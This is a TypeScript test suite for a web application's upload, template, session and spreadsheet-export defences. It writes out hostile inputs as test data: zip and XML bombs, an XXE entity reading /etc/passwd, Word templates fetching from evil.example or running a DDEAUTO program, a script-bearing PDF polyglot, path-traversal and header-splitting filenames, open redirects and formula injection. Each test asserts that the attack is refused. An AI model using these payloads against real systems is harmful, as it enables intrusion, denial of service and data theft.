import { mkdtempSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { Readable } from 'node:stream'
import { buffer } from 'node:stream/consumers'
import { sql } from 'kysely'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { demoPassword } from '../../src/app/demo/accounts.ts'
import { writeZip } from '../../src/kernel/files/zip.ts'
import { openArchive } from '../../src/kernel/sheets/archive.ts'
import { type DemoHouse, demoHouse } from '../world/house.ts'
import { expectMessage } from '../world/refusals.ts'

let demo: DemoHouse
const cookies: Record<string, string> = {}
beforeAll(async () => {
  demo = await demoHouse()
  for (const name of ['agent', 'expert', 'md', 'supervisor'])
    cookies[name] = (await demo.signIn(`${name}@khoosheh.example`, demoPassword)).cookie
})
afterAll(() => demo?.close())

const MB = 1024 * 1024
const at = new Date('2017-02-04T06:30:00Z')
/** An archive of parts; a part is a head, a piece said many times, and an end: small as it lies, large as it unpacks. */
type Part = string | [head: string, piece: string, times: number, end: string]
function* piecesOf(part: Part): Generator<Buffer> {
  if (typeof part === 'string') return yield Buffer.from(part)
  const [head, piece, times, end] = part
  yield Buffer.from(head)
  const block = Math.max(1, Math.floor(MB / piece.length))
  for (let left = times; left > 0; left -= block) yield Buffer.from(piece.repeat(Math.min(block, left)))
  yield Buffer.from(end)
}
const zip = (parts: Readonly<Record<string, Part>>): Promise<Buffer> =>
  buffer(
    writeZip(
      Object.entries(parts).map(([name, part]) => ({ name, content: () => Readable.from(piecesOf(part)) })),
      at,
    ),
  )

const rels = 'http://schemas.openxmlformats.org/package/2006/relationships'
const book = (sheet: Part, more: Record<string, Part> = {}) =>
  zip({
    'xl/workbook.xml': '<workbook xmlns:r="r"><sheets><sheet name="a" r:id="rId1"/></sheets></workbook>',
    'xl/_rels/workbook.xml.rels': `<Relationships xmlns="${rels}"><Relationship Id="rId1" Target="worksheets/sheet1.xml"/></Relationships>`,
    'xl/worksheets/sheet1.xml': sheet,
    ...more,
  })
const head = '<row r="1"><c r="A1" t="inlineStr"><is><t>نام</t></is></c></row>'
const sheetOf = (rows: string) => `<worksheet><sheetData>${head}${rows}</sheetData></worksheet>`
const word = (document: Part, more: Record<string, Part> = {}) =>
  zip({ '[Content_Types].xml': '<Types/>', 'word/document.xml': document, ...more })

const send = async (url: string, name: string, bytes: Buffer, as = 'expert') => {
  const reply = await demo.app.inject({
    method: 'POST',
    url,
    headers: { cookie: cookies[as]!, 'content-type': 'multipart/form-data; boundary=part' },
    payload: Buffer.concat([
      Buffer.from(`--part\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\n\r\n`),
      bytes,
      Buffer.from('\r\n--part--\r\n'),
    ]),
  })
  return { status: reply.statusCode, body: reply.json() }
}

describe('a table that was written to fill the memory', () => {
  const bombs: [string, string, () => Promise<Buffer>][] = [
    [
      'texts of a gigabyte',
      'a.xlsx',
      () => book(sheetOf(''), { 'xl/sharedStrings.xml': ['<sst><si><t>', 'a', 1024 * MB, '</t></si></sst>'] }),
    ],
    [
      'millions of empty texts',
      'a.xlsx',
      () => book(sheetOf(''), { 'xl/sharedStrings.xml': ['<sst>', '<si/>', 8_000_000, '</sst>'] }),
    ],
    [
      'a tag of a million attributes',
      'a.xlsx',
      () =>
        book(['<worksheet><sheetData><row ', 'a=">" '.replace('a', 'a'), 1, '']).then(() =>
          book([`<worksheet><c `, 'x1="" ', 3_000_000, '/></worksheet>']),
        ),
    ],
    ['tags within tags', 'a.xlsx', () => book(['<worksheet>', '<a>', 5_000_000, ''])],
    ['a tag that never ends', 'a.xlsx', () => book(['<worksheet', ' a', 20_000_000, ''])],
    [
      'merged cells without number',
      'a.xlsx',
      () => book(['<worksheet><mergeCells>', '<mergeCell ref="A1:B9999"/>', 1_000_000, '</mergeCells></worksheet>']),
    ],
    ['marks of merged cells that never close', 'a.xlsx', () => book(['<worksheet>', '<mergeCell ', 3_000_000, ''])],
    [
      'styles of fifty megabytes',
      'a.xlsx',
      () =>
        book(sheetOf(''), {
          'xl/styles.xml': [
            '<styleSheet><numFmts>',
            '<numFmt numFmtId="1" formatCode="yy"/>',
            1_500_000,
            '</numFmts></styleSheet>',
          ],
        }),
    ],
    [
      'one cell of fifty megabytes',
      'a.xlsx',
      () =>
        book([
          '<worksheet><sheetData><row r="1"><c t="str"><v>',
          'الف ',
          10_000_000,
          '</v></c></row></sheetData></worksheet>',
        ]),
    ],
    [
      'six thousand files',
      'a.xlsx',
      () => zip(Object.fromEntries(Array.from({ length: 6_000 }, (_, n) => [`xl/${n}.xml`, '<a/>']))),
    ],
    [
      'a Word table of a row without end',
      'a.docx',
      () =>
        word([
          '<w:document xmlns:w="w"><w:body><w:tbl><w:tr><w:tc><w:p><w:r><w:t>',
          'نام',
          10_000_000,
          '</w:t></w:r></w:p></w:tc></w:tr></w:tbl></w:body></w:document>',
        ]),
    ],
  ]
  test.each(bombs)(
    '%s is refused, in time and without filling it',
    async (_what, name, make) => {
      const bytes = await make()
      expect(bytes.length).toBeLessThan(12 * MB)
      let most = 0
      const watch = setInterval(() => {
        most = Math.max(most, process.memoryUsage().heapUsed)
      }, 20)
      const before = process.memoryUsage().heapUsed
      const began = performance.now()
      const { status, body } = await send('/api/lists/organisations/trial', name, bytes)
      clearInterval(watch)
      expect([status, body.error?.code]).toEqual([422, 'kernel.sheetUnreadable'])
      expectMessage(body.error.message)
      // parsing the largest part that is still read takes some seconds; filling the heap took it to its end
      expect((most - before) / MB).toBeLessThan(600)
      expect(performance.now() - began).toBeLessThan(25_000)
    },
    60_000,
  )

  test('entities that say each other ten times over are not followed', async () => {
    const laughing = `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/passwd">]>`
    const bytes = await book(
      `${laughing}<worksheet><sheetData><row r="1"><c t="str"><v>&b;&c;</v></c></row></sheetData></worksheet>`,
    )
    const { status, body } = await send('/api/lists/organisations/trial', 'a.xlsx', bytes)
    expect([status, JSON.stringify(body).includes('root:')]).toEqual([422, false])
  })
})

describe('a template that would reach outside or run', () => {
  const office = (target: string) => `<Relationships xmlns="${rels}"><Relationship Id="r1" ${target}/></Relationships>`
  const document =
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p/></w:body></w:document>'
  const run = (body: string) => document.replace('<w:p/>', `<w:p>${body}</w:p>`)
  const cases: [string, string, () => Promise<Buffer>][] = [
    [
      'fetches a picture, in other quotes',
      'papers.linkedOutside',
      () =>
        word(document, {
          'word/_rels/document.xml.rels': office(
            `Type='t/image' Target='http://evil.example/x.png' TargetMode='External'`,
          ),
        }),
    ],
    [
      'fetches its template, named like a link',
      'papers.linkedOutside',
      () =>
        word(document, {
          'word/_rels/settings.xml.rels': office(
            'Type="t/attachedTemplate" Target="http://evil.example/hyperlink" TargetMode="External"',
          ),
        }),
    ],
    [
      'fetches by a field',
      'papers.linkedOutside',
      () =>
        word(
          run(
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE "http://evil.example"</w:instrText></w:r>',
          ),
        ),
    ],
    [
      'starts a program by a field',
      'papers.linkedOutside',
      () => word(run('<w:fldSimple w:instr=" DDEAUTO c:\\\\x.exe"/>')),
    ],
    ['holds a macro', 'papers.holdsProgram', () => word(document, { 'word/vbaProject.bin': 'x' })],
    ['holds another file', 'papers.holdsProgram', () => word(document, { 'word/embeddings/oleObject1.bin': 'x' })],
    [
      'is a tree of fifty megabytes',
      'papers.tooLarge',
      () => word(['<w:document><w:body>', '<w:p/>', 8_000_000, '</w:body></w:document>']),
    ],
  ]
  test.each(cases)(
    'one that %s is refused',
    async (_what, code, make) => {
      const path = join(mkdtempSync(join(tmpdir(), 'khoosheh-template-')), 'a.docx')
      const { writeFileSync } = await import('node:fs')
      writeFileSync(path, await make())
      const { unfit } = await import('../../src/modules/papers/word/guard.ts')
      expect(`papers.${await unfit(path)}`).toBe(code)
    },
    30_000,
  )

  test('one with a link that somebody follows, and a page number, is fit', async () => {
    const bytes = await word(run('<w:fldSimple w:instr=" PAGE "/>'), {
      'word/_rels/document.xml.rels': office(
        `Type="${rels}/hyperlink" Target="https://khoosheh.example" TargetMode="External"`,
      ),
    })
    const path = join(mkdtempSync(join(tmpdir(), 'khoosheh-template-')), 'a.docx')
    const { writeFileSync } = await import('node:fs')
    writeFileSync(path, bytes)
    const { unfit } = await import('../../src/modules/papers/word/guard.ts')
    expect(await unfit(path)).toBeNull()
  })
})

describe('what was uploaded and is looked at again', () => {
  const polyglot = Buffer.from('%PDF-1.4\n<script>alert(document.cookie)</script>\n%%EOF\n')
  const open = async (id: string) =>
    demo.app.inject({ method: 'GET', url: `/api/files/${id}`, headers: { cookie: cookies.agent! } })

  test('a PDF that is a page too is shown as a PDF, in a sandbox', async () => {
    const { body } = await send('/api/files', 'a.pdf', polyglot, 'agent')
    const { headers } = await open(body.id)
    expect(headers['content-type']).toBe('application/pdf')
    expect(headers['x-content-type-options']).toBe('nosniff')
    expect(headers['content-security-policy']).toBe("default-src 'none'; sandbox")
  })

  test('a table with a page in it is saved, never shown', async () => {
    const { body } = await send('/api/files', 'a.csv', Buffer.from('نام\n<script>alert(1)</script>\n'), 'agent')
    const { headers } = await open(body.id)
    expect(String(headers['content-disposition'])).toMatch(/^attachment/)
    expect(String(headers['content-type'])).toMatch(/^text\/csv/)
  })

  test.each([
    ['../../../etc/cron.d/x.pdf', 'x.pdf'],
    ['C:\\Windows\\x.pdf', 'x.pdf'],
    ["a'; filename=b.html;.pdf", "a'; filename=b.html;.pdf"],
    [`${'ن'.repeat(400)}.pdf`, `${'ن'.repeat(196)}.pdf`],
  ])('the name %s stays a name', async (name, kept) => {
    const { status, body } = await send('/api/files', name, polyglot, 'agent')
    expect([status, body.name]).toEqual([200, kept])
    const said = String((await open(body.id)).headers['content-disposition'])
    expect(said).toMatch(/^inline; filename\*=UTF-8''[^\s/\\"]*$/)
    expect(decodeURIComponent(said.split("''")[1]!)).toBe(kept)
  })

  test('lines in a name split no header', async () => {
    const reply = await send('/api/files', 'a%0d%0aSet-Cookie: x=1.pdf', polyglot, 'agent')
    const { headers } = await open(reply.body.id)
    expect(headers['set-cookie']).toBeUndefined()
  })

  test('who has brought five hundred files without using them brings no more; others still do', async () => {
    const row = { as: 'supervisor' }
    const first = (await send('/api/files', 'a.pdf', polyglot, row.as)).body.id
    await sql`
      insert into files (id, hash, name, uploaded_by, uploaded_at)
      select gen_random_uuid(), hash, name, uploaded_by, uploaded_at from files, generate_series(1, 499)
      where id = ${first}::uuid`.execute(demo.house.db)
    const { status, body } = await send('/api/files', 'b.pdf', polyglot, row.as)
    expect([status, body.error?.code]).toEqual([429, 'kernel.tooManyLoose'])
    expectMessage(body.error.message)
    expect((await send('/api/files', 'b.pdf', polyglot, 'agent')).status).toBe(200)
  })
})

describe('signing in and the answers of the house', () => {
  const account = { name: 'agent@khoosheh.example', password: demoPassword }
  const enter = (cookie: string) =>
    demo.app.inject({ method: 'POST', url: '/api/session', headers: { cookie }, payload: account })
  const me = async (cookie: string) =>
    (await demo.app.inject({ method: 'GET', url: '/api/me', headers: { cookie } })).json()

  test('a session that somebody else began or planted is not taken over: each sign-in has a token of its own', async () => {
    const [planted] = (await enter('')).cookies
    const before = `${planted!.name}=${encodeURIComponent(planted!.value)}`
    const after = (await enter(before)).cookies[0]!
    expect(after.value).not.toBe(planted!.value)
    const made = (await enter('khoosheh.session_token=chosen-by-me.AAAA')).cookies[0]!
    expect(made.value).not.toContain('chosen-by-me')
    expect((await me('khoosheh.session_token=chosen-by-me.AAAA')).signedIn).toBe(false)
    expect(after).toMatchObject({ httpOnly: true, sameSite: 'Lax', path: '/' })
  })

  test('every page and answer says what a browser may do with it', async () => {
    for (const url of ['/api/me', '/api/clusters', '/public', '/nowhere']) {
      const { headers } = await demo.app.inject({ method: 'GET', url })
      const policy = String(headers['content-security-policy'])
      expect(policy).toContain("default-src 'self'")
      for (const said of ["object-src 'none'", "base-uri 'none'", "frame-ancestors 'none'", "form-action 'self'"])
        expect(policy).toContain(said)
      // no script but our own files, and no address of another house anywhere
      expect(policy).not.toMatch(/script-src|unsafe-eval|https?:|\*/)
      expect(policy.replace("style-src-attr 'unsafe-inline'", '')).not.toContain('unsafe-inline')
      expect(headers['referrer-policy']).toBe('no-referrer')
      expect(headers['access-control-allow-origin']).toBeUndefined()
      expect(headers['x-powered-by']).toBeUndefined()
    }
  })

  test('nothing of the house leads a browser elsewhere', async () => {
    for (const url of [
      '/sign-in?next=//evil.example',
      '//evil.example/',
      '/\\evil.example',
      '/api/me?next=https://evil.example',
    ]) {
      const reply = await demo.app.inject({ method: 'GET', url })
      expect([url, reply.headers.location]).toEqual([url, undefined])
    }
  })
})

describe('what goes out as a spreadsheet', () => {
  test.each([
    '=HYPERLINK("http://evil.example","x")',
    '+1+1',
    '@SUM(A1)',
    '-2+3',
    '\t=1',
  ])('%s is a text in it, not a formula', async (name) => {
    const make = await demo.app.inject({
      method: 'POST',
      url: '/api/organisations',
      headers: { cookie: cookies.expert! },
      payload: { kind: 'university', provinceId: 'IR-30', name: `${name} سازمان` },
    })
    expect([make.statusCode, make.statusCode < 300 ? '' : make.body]).toEqual([200, ''])
    const reply = await demo.app.inject({
      method: 'GET',
      url: '/api/lists/organisations.xlsx',
      headers: { cookie: cookies.expert! },
    })
    const path = join(mkdtempSync(join(tmpdir(), 'khoosheh-sheet-')), 'a.xlsx')
    const { writeFileSync } = await import('node:fs')
    writeFileSync(path, reply.rawPayload)
    const archive = await openArchive(path)
    const sheet = (await buffer(await archive.read('xl/worksheets/sheet1.xml'))).toString()
    expect(sheet).not.toMatch(/<f[ >]/)
    expect(sheet).not.toContain('hyperlink')
  })
})
